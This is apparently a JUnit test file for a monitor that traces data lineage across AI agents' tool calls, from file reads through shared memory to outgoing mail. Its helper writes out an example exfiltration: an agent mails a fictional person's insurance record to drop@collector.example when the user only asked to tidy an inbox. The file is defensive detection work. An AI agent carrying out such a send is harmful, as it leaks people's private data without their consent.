package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Hop;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class FleetLineageTest {

    private static final String RECORD =
            "Mara Lindqvist, born 4 March 1987, policy NL-2231-88, insured for the flat in "
                    + "Harbor Lane 14, asked on Monday to have the sum paid out to her brother instead.";
    private static final String REQUEST = "Tidy up my inbox, please.";

    private final FleetLane lane = new FleetLane();
    private int seconds;

    @Test
    void whatOneAgentPutsDownAndAnotherTakesUpIsOnePath() {
        reads("one", "agent-1", "files", "read_text_file");
        reads("one", "agent-1", "memory", "create_entities");
        reads("two", "agent-2", "memory", "read_graph");

        assertThat(sends("three", "agent-2")).singleElement().satisfies(alert -> {
            assertThat(alert.path())
                    .extracting(Hop::tool)
                    .containsExactly(
                            "read_text_file", "create_entities", "create_entities", "read_graph", "send_email");
            assertThat(alert.path())
                    .extracting(Hop::agentId)
                    .containsExactly("agent-1", "agent-1", "agent-1", "agent-2", "agent-2");
        });
    }

    @Test
    void tellsWhereTheContentOfTheSessionsOwnReadComesFrom() {
        reads("one", "agent-1", "files", "read_text_file");
        reads("one", "agent-1", "memory", "create_entities");
        reads("two", "agent-2", "memory", "read_graph");

        assertThat(sends("two", "agent-2"))
                .singleElement()
                .satisfies(alert -> assertThat(alert.path())
                        .extracting(Hop::tool)
                        .containsExactly(
                                "read_text_file", "create_entities", "create_entities", "read_graph", "send_email"));
    }

    @Test
    void readsOfTheSameInTwoSessionsAreNoPath() {
        reads("one", "agent-1", "files", "read_text_file");
        reads("two", "agent-2", "files", "read_text_file");

        assertThat(sends("three", "agent-2"))
                .singleElement()
                .satisfies(alert -> assertThat(alert.path()).hasSize(2));
    }

    @Test
    void anotherServerDoesNotHoldWhatWasPutDown() {
        reads("one", "agent-1", "memory", "create_entities");
        reads("two", "agent-2", "tickets", "read_graph");

        assertThat(sends("three", "agent-2"))
                .singleElement()
                .satisfies(alert -> assertThat(alert.path()).hasSize(2));
    }

    @Test
    void anotherAgentsNoteIsNotWrittenFromWhatThisOneHasRead() {
        reads("one", "agent-1", "files", "read_text_file");
        reads("two", "agent-2", "memory", "create_entities");

        assertThat(sends("three", "agent-2"))
                .singleElement()
                .satisfies(alert -> assertThat(alert.path()).hasSize(2));
    }

    private void reads(String session, String agentId, String server, String tool) {
        seconds++;
        lane.publish(Desk.ofServer(session, agentId, server, seconds).reads(tool, Map.of("content", RECORD)));
    }

    private List<AlertRaised> sends(String session, String agentId) {
        seconds++;
        Map<String, String> mail = Map.of("to", "drop@collector.example", "subject", "hi", "body", RECORD);
        return lane.publish(Desk.ofServer(session, agentId, "mail", seconds)
                .calls("send_email", mail, REQUEST)
                .event());
    }
}
